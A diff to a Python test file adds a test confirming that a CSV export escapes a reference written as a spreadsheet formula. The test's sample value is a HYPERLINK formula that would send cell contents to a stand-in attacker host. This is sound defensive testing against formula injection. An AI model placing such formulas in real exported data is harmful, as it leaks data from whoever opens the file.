@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pytest
@@ -164,6 +165,19 @@ def test_export_writes_one_row_per_visible_report(session: Session) -> None:
     lines = out.getvalue().splitlines()
     assert rows == 2 and lines[0] == "agency,external_ref,cluster"
     assert sorted(lines[1:]) == [f"MY-NSRC,MY-G,{key}", f"SG-ASCOM,SG-G,{key}"]
+
+
+def test_export_of_a_reference_written_as_a_formula_does_not_run_it(session: Session) -> None:
+    region = make_region(session)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    add_report(session, region, formula, day=0, names=[("phone", PHONE, "caller")])
+    add_report(session, region, "-12", day=1, names=[("phone", PHONE, "caller")])
+    rebuild(session)
+    out = io.StringIO()
+    export_clusters(session, region.caller(session, "MY-NSRC"), out)
+    refs = {row[1] for row in csv.reader(io.StringIO(out.getvalue()))}
+    assert "'" + formula in refs and formula not in refs
+    assert "-12" in refs  # a plain number is data, left as written
 
 
 def test_stop_list_entry_unlinks_at_rebuild_and_removing_it_links_again(session: Session) -> None:
